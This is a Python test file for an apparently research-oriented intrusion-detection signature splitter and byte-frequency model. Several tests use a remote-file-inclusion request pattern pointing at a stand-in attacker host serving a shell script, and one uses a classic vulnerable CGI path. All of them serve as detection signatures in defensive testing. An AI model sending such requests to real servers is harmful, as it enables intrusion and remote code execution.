"""Tests for the signature splitter and the n-gram background model."""

import math

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.signatures import (
    ByteFrequencyModel,
    RuleSet,
    Signature,
    SplitPolicy,
    UnsplittableSignatureError,
    effective_piece_length,
    load_bundled_rules,
    split_ruleset,
    split_signature,
    synthesize_corpus,
    uniform_model,
)


def sig(pattern, sid=1, port=None):
    return Signature(sid=sid, pattern=pattern, dst_port=port)


class TestEffectivePieceLength:
    def test_long_signature_uses_policy_p(self):
        assert effective_piece_length(sig(b"x" * 40), SplitPolicy(piece_length=8)) == 8

    def test_short_signature_shrinks(self):
        assert effective_piece_length(sig(b"x" * 18), SplitPolicy(piece_length=8)) == 6

    def test_too_short_raises(self):
        with pytest.raises(UnsplittableSignatureError):
            effective_piece_length(sig(b"x" * 11), SplitPolicy(piece_length=8))

    def test_boundary_exactly_3p(self):
        assert effective_piece_length(sig(b"x" * 24), SplitPolicy(piece_length=8)) == 8

    def test_boundary_exactly_3_min(self):
        assert effective_piece_length(sig(b"x" * 12), SplitPolicy(piece_length=8)) == 4


class TestSplitSignature:
    def test_pieces_cover_pattern(self):
        pattern = bytes(range(40))
        split = split_signature(sig(pattern))
        rebuilt = b"".join(piece.data for piece in split.pieces)
        assert rebuilt == pattern

    def test_piece_count_is_floor_l_over_p(self):
        split = split_signature(sig(b"x" * 43), SplitPolicy(piece_length=8))
        assert split.k == 43 // 8

    def test_all_pieces_at_least_p(self):
        split = split_signature(sig(b"x" * 43), SplitPolicy(piece_length=8))
        assert all(len(piece.data) >= 8 for piece in split.pieces)

    def test_threshold_is_twice_p(self):
        split = split_signature(sig(b"x" * 30), SplitPolicy(piece_length=10))
        assert split.small_packet_threshold == 20

    def test_minimum_viable_signature(self):
        split = split_signature(sig(b"abcdefghijkl"))  # 12 bytes -> p=4, k=3
        assert split.k == 3
        assert split.piece_length == 4

    def test_policy_validation(self):
        with pytest.raises(ValueError):
            SplitPolicy(piece_length=2)
        with pytest.raises(ValueError):
            SplitPolicy(piece_length=8, min_piece_length=2)


class TestModelGuidedSplitting:
    def make_model(self):
        model = ByteFrequencyModel()
        # "AAAA..." is extremely common benign content; "Q7" bytes are rare.
        model.train(b"A" * 5000 + bytes([81, 55]) * 10)
        return model

    def test_optimizer_avoids_common_pieces(self):
        # Pattern: rare prefix, then a long common run, then rare tail.
        pattern = b"Q7Q7Q7Q7" + b"A" * 16 + b"Q7Q7Q7Q7"
        model = self.make_model()
        naive = split_signature(sig(pattern), SplitPolicy(piece_length=8, optimize_boundaries=False))
        tuned = split_signature(sig(pattern), SplitPolicy(piece_length=8), model)

        def worst(split):
            return max(model.log_probability(p.data) for p in split.pieces)

        assert worst(tuned) <= worst(naive)

    def test_optimized_split_still_sound(self):
        pattern = b"Q7Q7Q7Q7" + b"A" * 16 + b"Q7Q7Q7Q7"
        tuned = split_signature(sig(pattern), SplitPolicy(piece_length=8), self.make_model())
        assert b"".join(p.data for p in tuned.pieces) == pattern
        assert all(len(p.data) >= 8 for p in tuned.pieces)


class TestPrefixSkip:
    def make_model(self):
        model = ByteFrequencyModel()
        model.train(b"GET /index.html HTTP/1.1\r\nHost: x\r\n\r\n" * 200)
        return model

    def test_common_prefix_skipped(self):
        pattern = b"GET /index.php?page=http://evil.example/shell.txt"
        tuned = split_signature(
            sig(pattern),
            SplitPolicy(piece_length=8, skip_common_prefix=True),
            self.make_model(),
        )
        assert tuned.start_offset > 0
        # The infamous benign-looking head is no longer a piece.
        assert all(not piece.data.startswith(b"GET /") for piece in tuned.pieces)

    def test_skip_preserves_soundness(self):
        from repro.theory import find_evading_boundaries

        pattern = b"GET /index.php?page=http://evil.example/shell.txt"
        tuned = split_signature(
            sig(pattern),
            SplitPolicy(piece_length=8, skip_common_prefix=True),
            self.make_model(),
        )
        assert tuned.k >= 3
        assert all(len(piece.data) >= 8 for piece in tuned.pieces)
        assert find_evading_boundaries(tuned) is None

    def test_skip_disabled_by_default(self):
        pattern = b"GET /index.php?page=http://evil.example/shell.txt"
        plain = split_signature(sig(pattern), SplitPolicy(piece_length=8), self.make_model())
        assert plain.start_offset == 0

    def test_no_model_means_no_skip(self):
        pattern = b"GET /index.php?page=http://evil.example/shell.txt"
        split = split_signature(
            sig(pattern), SplitPolicy(piece_length=8, skip_common_prefix=True)
        )
        assert split.start_offset == 0

    def test_short_signature_cannot_skip(self):
        pattern = b"GET /cgi-bin/phf?x"  # 18 bytes: p=6, no skip headroom
        split = split_signature(
            sig(pattern),
            SplitPolicy(piece_length=8, skip_common_prefix=True),
            self.make_model(),
        )
        assert split.start_offset == 0

    def test_skipped_split_reduces_worst_piece_commonness(self):
        model = self.make_model()
        pattern = b"GET /index.php?page=http://evil.example/shell.txt"
        plain = split_signature(sig(pattern), SplitPolicy(piece_length=8, optimize_boundaries=False))
        tuned = split_signature(
            sig(pattern),
            SplitPolicy(piece_length=8, skip_common_prefix=True, optimize_boundaries=False),
            model,
        )

        def worst(split):
            return max(model.log_probability(piece.data) for piece in split.pieces)

        assert worst(tuned) <= worst(plain)


class TestSplitRuleSet:
    def test_bundled_corpus_mostly_splittable(self):
        rules = load_bundled_rules()
        split = split_ruleset(rules)
        assert (
            len(split.splits) + len(split.unsplittable) + len(split.udp_whole)
            == len(rules)
        )
        # The corpus plants exactly a few deliberately-short signatures.
        assert 0 < len(split.unsplittable) < 0.1 * len(rules)
        # UDP signatures are routed to whole-datagram matching, never split.
        assert len(split.udp_whole) == 8
        assert all(s.protocol == "udp" for s in split.udp_whole)

    @staticmethod
    def assert_splits_under_the_theorem(rules, trained):
        import random

        from repro.theory import find_evading_boundaries
        from repro.traffic import benign_payload

        policy, model = SplitPolicy(), None
        if trained:
            policy = SplitPolicy(skip_common_prefix=True)
            model = ByteFrequencyModel()
            rng = random.Random(99)
            for _ in range(30):
                model.train(benign_payload(rng, 4000))
        # Construction validates the theorem's precondition, so every
        # split below satisfies it; only the deliberately short
        # signatures are set aside.
        split = split_ruleset(rules, policy, model)
        assert {s.sid for s in split.unsplittable} == {
            s.sid
            for s in rules
            if s.protocol != "udp" and len(s) // 3 < policy.min_piece_length
        }
        for piece_split in split.splits.values():
            assert find_evading_boundaries(piece_split) is None
        if trained:
            assert any(s.start_offset > 0 for s in split.splits.values())

    @pytest.mark.parametrize("trained", [False, True], ids=["no_model", "trained_skip"])
    def test_every_bundled_signature_splits_under_the_theorem(self, trained):
        self.assert_splits_under_the_theorem(load_bundled_rules(), trained)

    @pytest.mark.parametrize("trained", [False, True], ids=["no_model", "trained_skip"])
    def test_every_synthetic_signature_splits_under_the_theorem(self, trained):
        """The same checks over a 10x synthetic corpus (3,231 rules, 65
        of them too short to split)."""
        rules = synthesize_corpus(families=80)
        assert len(rules) == 3231
        self.assert_splits_under_the_theorem(rules, trained)

    def test_global_threshold(self):
        rules = RuleSet()
        rules.add(sig(b"x" * 40, sid=1))
        rules.add(sig(b"y" * 15, sid=2))  # shrinks to p=5
        split = split_ruleset(rules, SplitPolicy(piece_length=8))
        assert split.small_packet_threshold == 16

    def test_all_pieces_deterministic_order(self):
        rules = synthesize_corpus()
        a = [p.data for p in split_ruleset(rules).all_pieces()]
        b = [p.data for p in split_ruleset(rules).all_pieces()]
        assert a == b

    def test_piece_count(self):
        rules = RuleSet()
        rules.add(sig(b"x" * 24, sid=1))
        rules.add(sig(b"y" * 32, sid=2))
        split = split_ruleset(rules, SplitPolicy(piece_length=8))
        assert split.piece_count == 3 + 4


class TestByteFrequencyModel:
    def test_untrained_is_uniform(self):
        model = uniform_model()
        assert model.log_probability(b"ab") == pytest.approx(2 * math.log(1 / 256))

    def test_training_shifts_probability(self):
        model = ByteFrequencyModel()
        model.train(b"abababab" * 100)
        assert model.log_probability(b"abab") > model.log_probability(b"zqzq")

    def test_expected_matches_scale(self):
        model = uniform_model()
        per_byte = math.exp(model.log_probability(b"abcd"))
        assert model.expected_matches(b"abcd", 10**6) == pytest.approx(10**6 * per_byte)

    def test_empty_piece(self):
        assert uniform_model().log_probability(b"") == 0.0

    def test_trained_bytes(self):
        model = ByteFrequencyModel()
        model.train_many([b"abc", b"de"])
        assert model.trained_bytes == 5


@given(
    length=st.integers(min_value=12, max_value=300),
    p=st.integers(min_value=4, max_value=16),
    seed=st.integers(min_value=0, max_value=2**31),
)
@settings(max_examples=200)
def test_split_invariants_hold_for_any_signature(length, p, seed):
    import random

    rng = random.Random(seed)
    pattern = bytes(rng.randrange(256) for _ in range(length))
    policy = SplitPolicy(piece_length=p)
    try:
        split = split_signature(sig(pattern), policy)
    except UnsplittableSignatureError:
        assert length // 3 < policy.min_piece_length
        return
    assert split.k >= 3
    assert split.k == length // split.piece_length
    assert b"".join(piece.data for piece in split.pieces) == pattern
    assert all(len(piece.data) >= split.piece_length for piece in split.pieces)
    # Pieces no longer than 2p-1 in the unoptimized even split.
    assert all(len(piece.data) <= 2 * split.piece_length - 1 for piece in split.pieces)
